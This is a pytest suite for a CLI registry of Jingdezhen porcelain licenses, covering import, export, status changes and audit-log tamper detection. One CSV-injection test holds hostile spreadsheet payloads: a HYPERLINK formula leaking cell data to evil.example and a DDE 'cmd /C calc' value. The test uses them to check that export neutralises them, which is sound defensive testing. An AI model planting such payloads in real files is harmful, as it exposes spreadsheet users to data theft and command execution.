"""`jdzhi registry ...` through the real CLI: exit codes, output, files, atomicity, auditing."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path
from typing import Any

import pytest
from conftest import BOTH_BACKENDS, Invoke
from db_support import count_rows, drop_trigger, raw_database

from jdzhi.errors import ExitCode
from jdzhi.home import Home
from jdzhi.registry.db import initialize

pytestmark = BOTH_BACKENDS

USCC = "91350100M000100Y43"  # the GB 32100-2015 example code
AS_OF = "2026-06-01"
NOW = "2026-06-01T12:00:00+08:00"


@pytest.fixture
def home(jdzhi_home: Home, monkeypatch: pytest.MonkeyPatch) -> Home:
    monkeypatch.setenv("JDZHI_NOW", NOW)
    initialize(jdzhi_home)
    return jdzhi_home


def ok(result: Any) -> Any:
    assert result.exit_code == 0, result.output
    return result


def failed(result: Any, code: ExitCode, message: str) -> None:
    assert result.exit_code == code, result.output
    lines = result.stderr.strip().splitlines()
    assert lines[-1].startswith("error: "), result.stderr
    assert message in lines[-1], lines[-1]


def listed(cli: Invoke, *args: str) -> list[dict[str, Any]]:
    data: list[dict[str, Any]] = json.loads(ok(cli("registry", "list", "--json", *args)).stdout)
    return data


def table_rows(home: Home, table: str) -> int:
    return count_rows(home, table)


def add(cli: Invoke, *extra: str, uscc: str = USCC, license_no: str = "JDZ-GI-2024-0001") -> Any:
    return cli("registry", "add", "--uscc", uscc, "--name", "景德镇市青云陶瓷有限公司",
               "--district", "珠山区", "--license-no", license_no, "--categories", "青花,粉彩",
               "--valid-from", "2024-01-01", "--valid-to", "2028-12-31", *extra)


def write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(dict.fromkeys(k for r in rows for k in r)))
        writer.writeheader()
        writer.writerows(rows)
    return path


def good_row(number: int, uscc: str) -> dict[str, str]:
    return {"uscc": uscc, "name": f"景德镇市样例{number}陶瓷有限公司", "district_code": "360202",
            "license_no": f"JDZ-GI-2025-{number:04d}", "categories": "qinghua",
            "valid_from": "2025-01-01", "valid_to": "2029-12-31"}


# ---------------------------------------------------------------- add, list, show


def test_add_then_list_json_contract(cli: Invoke, home: Home) -> None:
    result = ok(add(cli))
    assert ("Registered 景德镇市青云陶瓷有限公司 (id 1) with license JDZ-GI-2024-0001"
            in result.stdout)
    assert "warning: USCC 91350100M000100Y43 was issued in division 350100" in result.stderr
    [entry] = listed(cli)
    assert {"id", "uscc", "name", "license_no", "status", "categories", "valid_from",
            "valid_to"} <= set(entry)
    assert entry["id"] == 1 and entry["uscc"] == USCC
    assert entry["categories"] == ["qinghua", "fencai"]
    assert (entry["valid_from"], entry["valid_to"]) == ("2024-01-01", "2028-12-31")
    assert entry["status"] == "active" and entry["district"] == "珠山区"


def test_add_with_a_mistyped_uscc_stores_nothing(cli: Invoke, home: Home) -> None:
    failed(add(cli, uscc="91350100M000100Y44"), ExitCode.INVALID_INPUT,
           "USCC 91350100M000100Y44 fails the GB 32100 check: character 18 is '4', expected '3'")
    assert table_rows(home, "enterprises") == 0
    failed(add(cli, "--valid-to", "2020-01-01"), ExitCode.INVALID_INPUT,
           "valid_to 2020-01-01 is before valid_from 2024-01-01")
    assert table_rows(home, "licenses") == 0


def test_add_twice_is_a_conflict(cli: Invoke, home: Home) -> None:
    ok(add(cli))
    failed(add(cli, license_no="JDZ-GI-2024-0002"), ExitCode.CONFLICT,
           "an enterprise with USCC 91350100M000100Y43 is already registered (id 1)")


def test_show_json_has_history_and_unknown_is_not_found(cli: Invoke, home: Home) -> None:
    ok(add(cli))
    data = json.loads(ok(cli("registry", "show", USCC, "--json")).stdout)
    assert data["license_no"] == "JDZ-GI-2024-0001"
    assert data["history"] == [{
        "action": "issue", "status": "active", "reason": "licensed",
        "effective_at": "2023-12-31T16:00:00Z", "recorded_at": "2026-06-01T04:00:00Z",
        "actor": "test-operator", "valid_to": "2028-12-31",
    }]
    text = ok(cli("registry", "show", "1"))
    assert "景德镇市青云陶瓷有限公司" in text.stdout and "status history" in text.stdout
    failed(cli("registry", "show", "JDZ-NOPE-1"), ExitCode.NOT_FOUND,
           "no license or enterprise 'JDZ-NOPE-1'")


def test_an_uninitialized_home_says_so(cli: Invoke, jdzhi_home: Home) -> None:
    failed(cli("registry", "list"), ExitCode.NOT_INITIALIZED, "run `jdzhi init` first")


# ---------------------------------------------------------------- status changes


def test_suspend_in_the_past_then_reinstate_and_renew(cli: Invoke, home: Home) -> None:
    ok(add(cli))
    result = ok(cli("registry", "suspend", "JDZ-GI-2024-0001", "--reason", "spot check failed",
                    "--effective", "2026-03-01T09:00"))
    assert ("Suspended license JDZ-GI-2024-0001: suspended from 2026-03-01T01:00:00Z"
            in result.stdout)
    assert listed(cli)[0]["status"] == "suspended"
    assert listed(cli, "--at", "2026-03-01T08:59:59")[0]["status"] == "active"
    assert listed(cli, "--at", "2026-03-01T09:00:00")[0]["status"] == "suspended"
    assert listed(cli, "--status", "suspended")[0]["uscc"] == USCC
    data = json.loads(ok(cli("registry", "reinstate", USCC, "--reason", "fixed", "--json")).stdout)
    assert (data["previous_status"], data["status"], data["effective_at"]) == (
        "suspended", "active", "2026-06-01T04:00:00Z")
    ok(cli("registry", "renew", "1", "--valid-to", "2033-12-31", "--reason", "renewed"))
    assert listed(cli)[0]["valid_to"] == "2033-12-31"
    actions = [e["action"] for e in json.loads(ok(cli("registry", "show", "1", "--json")).stdout)[
        "history"]]
    assert actions == ["issue", "suspend", "reinstate", "renew"]


def test_revoked_is_final(cli: Invoke, home: Home) -> None:
    ok(add(cli))
    ok(cli("registry", "revoke", USCC, "--reason", "mark used on foreign porcelain"))
    failed(cli("registry", "reinstate", USCC, "--reason", "please"), ExitCode.INVALID_STATE,
           "license JDZ-GI-2024-0001 is revoked, which is final: it cannot be reinstated")
    failed(cli("registry", "revoke", USCC, "--reason", "again"), ExitCode.INVALID_STATE,
           "is already revoked")


def test_bad_effective_time_and_missing_reason(cli: Invoke, home: Home) -> None:
    ok(add(cli))
    failed(cli("registry", "suspend", USCC, "--reason", "x", "--effective", "yesterday"),
           ExitCode.INVALID_INPUT, "--effective 'yesterday' is not an ISO 8601 time")
    assert cli("registry", "suspend", USCC).exit_code == ExitCode.USAGE
    failed(cli("registry", "renew", USCC, "--valid-to", "2031-02-30", "--reason", "x"),
           ExitCode.INVALID_INPUT, "--valid-to '2031-02-30' is not a date")
    assert listed(cli)[0]["status"] == "active"


# ---------------------------------------------------------------- import


def test_import_is_all_or_nothing_with_the_row_number(cli: Invoke, home: Home,
                                                      tmp_path: Path) -> None:
    # a CSV row is named by its line in the file: the header is row 1
    rows = [good_row(1, USCC), good_row(2, "914403001922038216"),
            good_row(3, "91110108795101314X"), good_row(4, "91330000704202479R")]
    path = write_csv(tmp_path / "batch.csv", rows)
    audit_entries = table_rows(home, "audit_log")
    failed(cli("registry", "import", str(path)), ExitCode.INVALID_INPUT,
           "batch.csv: row 4: USCC 91110108795101314X fails the GB 32100 check")
    assert table_rows(home, "enterprises") == 0
    assert table_rows(home, "audit_log") == audit_entries
    rows[2] = good_row(3, "91110108795101314G")
    write_csv(path, rows)
    checked = ok(cli("registry", "import", str(path), "--check"))
    assert "all 4 rows would import; nothing was written" in checked.stdout
    assert table_rows(home, "enterprises") == 0
    result = ok(cli("registry", "import", str(path), "--json"))
    assert json.loads(result.stdout)["imported"] == 4
    assert len(listed(cli)) == 4


@pytest.mark.parametrize(("change", "code", "message"), [
    ({"categories": "青花;刻花"}, ExitCode.INVALID_INPUT, "row 3: no product category '刻花'"),
    ({"district_code": "360100"}, ExitCode.INVALID_INPUT,
     "row 3: district '360100' is not one of Jingdezhen's"),
    ({"valid_from": "2025-13-01"}, ExitCode.INVALID_INPUT,
     "row 3: valid_from '2025-13-01' is not a date"),
    ({"status": "expired"}, ExitCode.INVALID_INPUT, "row 3: status 'expired' is not set by hand"),
    ({"status": "suspended"}, ExitCode.INVALID_INPUT,
     "row 3: a suspended license needs status_effective_at"),
    ({"license_no": "JDZ-GI-2025-0001"}, ExitCode.CONFLICT,
     "row 3: license_no JDZ-GI-2025-0001 repeats row 2"),
    ({"uscc": USCC}, ExitCode.CONFLICT, "row 3: uscc 91350100M000100Y43 repeats row 2"),
    ({"name": "景\n德"}, ExitCode.INVALID_INPUT, "row 3: name contains a control character"),
])
def test_one_bad_row_rejects_the_file(cli: Invoke, home: Home, tmp_path: Path,
                                      change: dict[str, str], code: ExitCode,
                                      message: str) -> None:
    rows = [good_row(1, USCC), {**good_row(2, "914403001922038216"), **change}]
    failed(cli("registry", "import", str(write_csv(tmp_path / "f.csv", rows))), code, message)
    assert table_rows(home, "enterprises") == 0


def test_rows_already_registered_reject_the_file(cli: Invoke, home: Home,
                                                 tmp_path: Path) -> None:
    ok(add(cli, uscc="914403001922038216", license_no="JDZ-X-1"))
    rows = [good_row(1, USCC), good_row(2, "914403001922038216")]
    failed(cli("registry", "import", str(write_csv(tmp_path / "f.csv", rows))), ExitCode.CONFLICT,
           "row 3: an enterprise with USCC 914403001922038216 is already registered (id 1)")
    assert table_rows(home, "enterprises") == 1


@pytest.mark.parametrize(("name", "content", "message"), [
    ("missing.csv", None, "missing.csv does not exist"),
    ("empty.csv", "", "empty.csv is empty"),
    ("cols.csv", "uscc,name\n1,2\n", "cols.csv lacks the column(s) district_code, license_no"),
    ("bad.json", "[{\"uscc\": ", "bad.json is not valid JSON"),
    ("obj.json", "{\"uscc\": \"x\"}", "must hold a JSON array of objects"),
    ("num.json", "[1]", "row 1 is not a JSON object"),
    ("extra.json", "[{\"usc\": \"x\"}]", "row 1: unknown field 'usc'"),
    ("latin1.csv", b"uscc,name\n\xe9\n", "latin1.csv is not UTF-8 text"),
    ("none.json", "[]", "none.json has no rows to import"),
])
def test_malformed_files_are_clean_errors(cli: Invoke, home: Home, tmp_path: Path, name: str,
                                          content: str | bytes | None, message: str) -> None:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    elif content is not None:
        path.write_text(content, encoding="utf-8")
    failed(cli("registry", "import", str(path)), ExitCode.INVALID_INPUT, message)
    assert table_rows(home, "enterprises") == 0


def test_json_import_accepts_category_lists(cli: Invoke, home: Home, tmp_path: Path) -> None:
    path = tmp_path / "one.json"
    path.write_text(json.dumps([{**good_row(1, USCC), "categories": ["青花", "famille-rose"]}]),
                    encoding="utf-8")
    ok(cli("registry", "import", str(path)))
    assert listed(cli)[0]["categories"] == ["qinghua", "fencai"]


# ---------------------------------------------------------------- sample, export


def test_sample_is_labelled_deterministic_and_importable(cli: Invoke, home: Home,
                                                         tmp_path: Path) -> None:
    first, second, other = (tmp_path / n for n in ("a.csv", "b.csv", "c.csv"))
    result = ok(cli("registry", "sample", "--count", "220", "--out", str(first), "--seed", "7",
                    "--as-of", AS_OF, "--json"))
    summary = json.loads(result.stdout)
    ok(cli("registry", "sample", "--count", "220", "--out", str(second), "--seed", "7",
           "--as-of", AS_OF))
    ok(cli("registry", "sample", "--count", "220", "--out", str(other), "--seed", "8",
           "--as-of", AS_OF))
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes() != other.read_bytes()
    text = first.read_text(encoding="utf-8")
    assert text.startswith("# SAMPLE DATA")
    header = text.splitlines()[2].split(",")
    assert {"uscc", "name", "license_no"} <= set(header)
    ok(cli("registry", "import", str(first)))
    entries = listed(cli)
    assert len(entries) == 220
    assert len({e["uscc"] for e in entries}) == 220
    assert all(e["uscc"][2:6] == "3602" for e in entries)
    assert {e["district_code"] for e in entries} == {"360202", "360203", "360222", "360281"}
    assert all(e["contact"].endswith("(sample)") for e in entries)
    counts: dict[str, int] = {}
    for entry in entries:
        counts[entry["status"]] = counts.get(entry["status"], 0) + 1
    assert counts == summary["statuses"]
    assert counts["active"] > 150 and counts["suspended"] and counts["revoked"]
    assert counts["expired"]
    assert len({c for e in entries for c in e["categories"]}) >= 8
    ok(cli("registry", "audit"))


def test_sample_refuses_to_overwrite_and_bad_counts(cli: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_text("keep me", encoding="utf-8")
    failed(cli("registry", "sample", "--out", str(path)), ExitCode.CONFLICT, "exists")
    assert path.read_text(encoding="utf-8") == "keep me"
    failed(cli("registry", "sample", "--count", "0", "--out", str(tmp_path / "t.csv")),
           ExitCode.INVALID_INPUT, "between 1 and 2000")
    failed(cli("registry", "sample", "--out", str(tmp_path / "t.txt")), ExitCode.INVALID_INPUT,
           "must end in .csv or .json")


@pytest.mark.parametrize("suffix", [".csv", ".json"])
def test_export_import_round_trip(cli: Invoke, home: Home, tmp_path: Path, suffix: str) -> None:
    sample = tmp_path / "sample.csv"
    ok(cli("registry", "sample", "--count", "40", "--out", str(sample), "--seed", "3",
           "--as-of", AS_OF))
    ok(cli("registry", "import", str(sample)))
    ok(cli("registry", "suspend", "2", "--reason", "audit", "--effective", "2026-05-01"))
    exported = tmp_path / f"export{suffix}"
    ok(cli("registry", "export", str(exported)))
    other = tmp_path / "other-home"
    initialize(Home(other))
    # the copy is a SQLite home on either backend: export and import cross them too
    copy_home = ("--home", str(other), "--db", f"sqlite:///{other / 'registry.db'}")
    ok(cli(*copy_home, "registry", "import", str(exported)))

    def comparable(entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in e.items() if k != "status_effective_at" or e["status"] in (
            "suspended", "revoked")} for e in entries]

    original = listed(cli)
    copy = json.loads(ok(cli(*copy_home, "registry", "list", "--json")).stdout)
    assert comparable(copy) == comparable(original)
    assert original[1]["status"] == "suspended"
    failed(cli("registry", "export", str(exported)), ExitCode.CONFLICT, "exists")
    ok(cli("registry", "export", str(exported), "--force"))


def test_export_neutralises_formulas_and_imports_them_back(cli: Invoke, home: Home,
                                                           tmp_path: Path) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run as a formula is exported with a
    leading "'", and import drops exactly that prefix (also from a value that began with "'")."""
    hostile = [
        (USCC, '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("914403001922038216", "+1+2景德镇瓷厂", "-2+3 珠山中路"),
        ("91330000704202479R", "'引号开头的瓷厂", "'=already quoted"),
    ]
    source = tmp_path / "hostile.json"
    source.write_text(json.dumps([
        {**good_row(number, uscc), "name": name, "address": address}
        for number, (uscc, name, address) in enumerate(hostile, start=1)
    ], ensure_ascii=False), encoding="utf-8")
    ok(cli("registry", "import", str(source)))
    exported = tmp_path / "export.csv"
    ok(cli("registry", "export", str(exported)))
    with exported.open(encoding="utf-8", newline="") as stream:
        cells = {row["uscc"]: (row["name"], row["address"]) for row in csv.DictReader(stream)}
    assert cells == {uscc: (f"'{name}", f"'{address}") for uscc, name, address in hostile}
    other = tmp_path / "other-home"
    initialize(Home(other))
    # the copy is a SQLite home on either backend: export and import cross them too
    copy_home = ("--home", str(other), "--db", f"sqlite:///{other / 'registry.db'}")
    ok(cli(*copy_home, "registry", "import", str(exported)))
    copy = json.loads(ok(cli(*copy_home, "registry", "list", "--json")).stdout)
    assert [(e["uscc"], e["name"], e["address"]) for e in copy] == hostile
    assert copy == listed(cli)


# ---------------------------------------------------------------- audit


@pytest.fixture
def populated(cli: Invoke, home: Home) -> Home:
    ok(add(cli))
    ok(add(cli, uscc="914403001922038216", license_no="JDZ-GI-2024-0002"))
    ok(cli("registry", "suspend", "2", "--reason", "spot check", "--effective", "2026-01-01"))
    result = ok(cli("registry", "audit"))
    assert "Audit log intact" in result.stdout
    return home


@pytest.mark.parametrize(("statement", "problem"), [
    ("UPDATE enterprises SET name = '假冒' WHERE id = 1",
     "enterprises:1 was changed outside jdzhi"),
    ("UPDATE licenses SET status = 'active', status_reason = '' WHERE id = 2",
     "licenses:2 was changed outside jdzhi"),
    ("UPDATE licenses SET valid_to = '2099-12-31' WHERE id = 1",
     "licenses:1 was changed outside jdzhi"),
    ("INSERT INTO license_categories (license_id, category_code) VALUES (1, 'doucai')",
     "license_categories:5 was added outside jdzhi"),
    ("DELETE FROM license_events WHERE license_id = 2 AND action = 'suspend'",
     "license_events:3 was deleted outside jdzhi"),
    ("INSERT INTO categories VALUES ('fake', '假', 'fake', 99)",
     "categories:fake was added outside jdzhi"),
])
def test_audit_detects_changes_behind_the_tools_back(cli: Invoke, populated: Home,
                                                     statement: str, problem: str) -> None:
    with raw_database(populated) as db:
        db.execute(statement)
    result = cli("registry", "audit")
    failed(result, ExitCode.CHECK_FAILED, "the registry audit found 1 problem")
    assert problem in result.stdout
    data = json.loads(cli("registry", "audit", "--json").stdout)
    assert data["ok"] is False and len(data["problems"]) == 1
    assert data["problems"][0].startswith(problem)


def test_audit_detects_a_tampered_entry(cli: Invoke, populated: Home) -> None:
    with raw_database(populated) as db:
        drop_trigger(db, "audit_log_no_update", "audit_log")
        db.execute("UPDATE audit_log SET actor = 'mallory' WHERE seq = 13")
    result = cli("registry", "audit")
    failed(result, ExitCode.CHECK_FAILED, "found 2 problems")
    assert "trigger audit_log_no_update is missing" in result.stdout
    assert "audit entry 13 was altered after it was written" in result.stdout


def test_audit_detects_a_removed_entry(cli: Invoke, populated: Home) -> None:
    with raw_database(populated) as db:
        drop_trigger(db, "audit_log_no_delete", "audit_log")
        db.execute("DELETE FROM audit_log WHERE seq = 14")
    result = cli("registry", "audit")
    assert result.exit_code == ExitCode.CHECK_FAILED
    assert "audit entry 14 is missing (next is 15)" in result.stdout


# ---------------------------------------------------------------- categories


def test_categories_list_and_add(cli: Invoke, home: Home) -> None:
    listed_categories = json.loads(ok(cli("registry", "categories", "--json")).stdout)
    assert listed_categories[0] == {"code": "qinghua", "name_zh": "青花",
                                    "name_en": "blue-and-white", "label_code": 1}
    added = json.loads(ok(cli("registry", "categories", "add", "kehua", "--zh", "刻花", "--en",
                              "carved", "--json")).stdout)
    assert added["label_code"] == 12
    assert "刻花" in ok(cli("registry", "categories", "list")).stdout
    failed(cli("registry", "categories", "add", "kehua", "--zh", "刻", "--en", "c"),
           ExitCode.CONFLICT, "already uses that code or name")
    ok(add(cli, "--categories", "刻花"))
    assert listed(cli, "--category", "carved")[0]["categories"] == ["kehua"]


def test_a_new_license_after_revocation(cli: Invoke, home: Home) -> None:
    ok(add(cli))
    issue = ("registry", "issue", USCC, "--license-no", "JDZ-GI-2026-0009", "--categories",
             "玲珑", "--valid-from", "2026-07-01", "--valid-to", "2031-06-30")
    failed(cli(*issue), ExitCode.INVALID_STATE,
           "already holds license JDZ-GI-2024-0001 (2024-01-01 to 2028-12-31, active)")
    failed(cli("registry", "reinstate", USCC, "--reason", "x"), ExitCode.INVALID_STATE,
           "nothing to reinstate")
    ok(cli("registry", "revoke", USCC, "--reason", "misuse"))
    failed(cli("registry", "renew", USCC, "--valid-to", "2035-01-01", "--reason", "x"),
           ExitCode.INVALID_STATE, "it cannot be renewed (issue a new one with `jdzhi registry")
    result = ok(cli(*issue, "--json"))
    issued = json.loads(result.stdout)
    assert (issued["license_no"], issued["status"], issued["categories"]) == (
        "JDZ-GI-2026-0009", "pending", ["linglong"])
    detail = json.loads(ok(cli("registry", "show", "1", "--json")).stdout)
    assert detail["license_no"] == "JDZ-GI-2026-0009"
    assert detail["other_licenses"] == ["JDZ-GI-2024-0001"]
    assert json.loads(ok(cli("registry", "show", "JDZ-GI-2024-0001", "--json")).stdout)[
        "status"] == "revoked"
    failed(cli(*issue), ExitCode.CONFLICT, "license number JDZ-GI-2026-0009 is already taken")
    ok(cli("registry", "audit"))


def test_update_enterprise_details(cli: Invoke, home: Home) -> None:
    ok(add(cli, "--contact", "0798-8000000"))
    result = ok(cli("registry", "update", USCC, "--name", "景德镇市青云瓷业有限公司",
                    "--contact", "", "--json"))
    data = json.loads(result.stdout)
    assert data["changed"] == ["name", "short_name", "contact"]
    assert (data["name"], data["short_name"], data["contact"]) == (
        "景德镇市青云瓷业有限公司", "青云瓷业", "")
    failed(cli("registry", "update", USCC, "--district", "北京"), ExitCode.INVALID_INPUT,
           "district '北京' is not one of Jingdezhen's")
    failed(cli("registry", "update", USCC), ExitCode.INVALID_INPUT, "nothing to change")
    failed(cli("registry", "update", USCC, "--contact", ""), ExitCode.INVALID_INPUT,
           "already has these details")
    failed(cli("registry", "update", "7", "--contact", "x"), ExitCode.NOT_FOUND,
           "no enterprise with id, USCC or license number '7'")
    ok(cli("registry", "audit"))
    assert listed(cli)[0]["name"] == "景德镇市青云瓷业有限公司"


def test_export_refuses_bad_destinations(cli: Invoke, home: Home, tmp_path: Path) -> None:
    ok(add(cli))
    (tmp_path / "folder.csv").mkdir()
    failed(cli("registry", "export", str(tmp_path / "folder.csv"), "--force"),
           ExitCode.INVALID_INPUT, "is a folder; give a file name")
    failed(cli("registry", "export", str(tmp_path / "no" / "x.csv")), ExitCode.INVALID_INPUT,
           "does not exist")
    failed(cli("registry", "export", str(tmp_path / "x.xlsx")), ExitCode.INVALID_INPUT,
           "must end in .csv or .json")


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0,
                    reason="needs a non-root POSIX user for a read-only folder")
def test_export_into_a_read_only_folder(cli: Invoke, home: Home, tmp_path: Path) -> None:
    ok(add(cli))
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        failed(cli("registry", "export", str(locked / "x.csv")), ExitCode.INVALID_INPUT,
               f"cannot write in {locked}")
    finally:
        locked.chmod(0o700)
